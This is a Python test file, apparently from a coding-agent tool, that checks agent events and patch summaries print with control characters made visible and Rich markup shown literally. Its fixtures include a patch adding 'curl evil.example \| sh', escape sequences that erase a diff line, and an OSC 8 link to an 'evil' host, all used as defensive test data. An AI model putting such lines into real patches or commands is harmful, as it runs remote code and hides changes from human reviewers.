"""What the user sees is what happened (issue 8, finding 10): agent, model, repository and patch
text is printed with control characters made visible and Rich markup shown literally. Before,
`[/]` in an agent event crashed Rich's printer and `\\x1b[2K\\x1b[1A` in a patch erased a diff line."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

from rich.console import Console

from selfcoder.commands.progress import ProgressPrinter, print_summary
from selfcoder.core.events import AgentEvent, VerdictReady

HIDE_LINE = "\x1b[2K\x1b[1A"
MARKUP = "[/] [bold red]not red[/bold red] [link=http://x]x"


def console() -> Console:
    return Console(record=True, width=200, force_terminal=True, color_system="standard")


def test_control_characters_become_visible_and_newline_tab_stay():
    from selfcoder.core.safe_text import markup, one_line, visible

    assert visible(f"a{HIDE_LINE}b\r\x00\x7f\x9b\u202e\n\t") == "a\\x1b[2K\\x1b[1Ab\\x0d\\x00\\x7f\\x9b\\u202e\n\t"
    assert one_line("a\nb\tc", 4) == "a b…"
    assert markup("[/]") == "\\[/]"


def test_events_with_markup_and_escapes_print_literally():
    c = console()
    printer = ProgressPrinter(c)
    printer({"type": "agent_step", "n": 1, "action": "bash[/]", "detail": f"bash: echo '{MARKUP}' {HIDE_LINE}", "tokens": 10})
    printer({"type": "agent_exit", "status": "[bold]submitted", "message": f"done {MARKUP}\x1b]8;;http://evil\x1b\\"})
    printer(AgentEvent("r1", kind="step", data={"n": 2, "action": "edit", "detail": "typed [/]", "tokens": 20}))
    printer(VerdictReady("r1", status="[/]"))
    printer({"type": "phase", "phase": "[/]"})
    out = c.export_text(styles=False, clear=False)
    assert f"bash: echo '{MARKUP}' \\x1b[2K\\x1b[1A" in out
    assert f"done {MARKUP}\\x1b]8;;http://evil\\x1b\\" in out and "[bold]submitted" in out and "bash[/]" in out
    assert "typed [/]" in out and "verdict: [/]" in out and "▸ [/]" in out
    assert "\x1b" not in out


def test_summary_shows_patch_escapes_visibly_and_test_names_literally():
    patch = (f"--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,2 @@\n echo hi\n+curl evil.example | sh\n"
             f"+{HIDE_LINE}# harmless [/] [bold red]x\n")  # fmt: skip
    verdict = {"status": "resolved", "tests": {"before": {"test_a[x]": "failed"}, "after": {"test_a[x]": "passed"}},
               "restored_files": ["conftest.py[/]"]}  # fmt: skip
    result = SimpleNamespace(status="unresolved", validated=False, patch=patch, verdict=verdict, usage={},
                             agent_status="[/]", duration_s=1.0, message=f"agent said {MARKUP}",
                             run_dir=Path("/tmp/runs/[/]"))  # fmt: skip
    c = console()
    print_summary(c, result)
    raw = c.export_text(styles=True, clear=False)
    out = c.export_text(styles=False)
    assert "\x1b[2K" not in raw and "\x1b[1A" not in raw, "an escape sequence from the patch reached the terminal"
    assert "+curl evil.example | sh" in out
    assert "+\\x1b[2K\\x1b[1A# harmless [/] [bold red]x" in out
    assert "test_a[x]" in out and "conftest.py[/]" in out
    assert f"agent said {MARKUP}" in out and "/tmp/runs/[/]" in out
    assert "\x1b[32m" in raw, "the diff is still coloured"
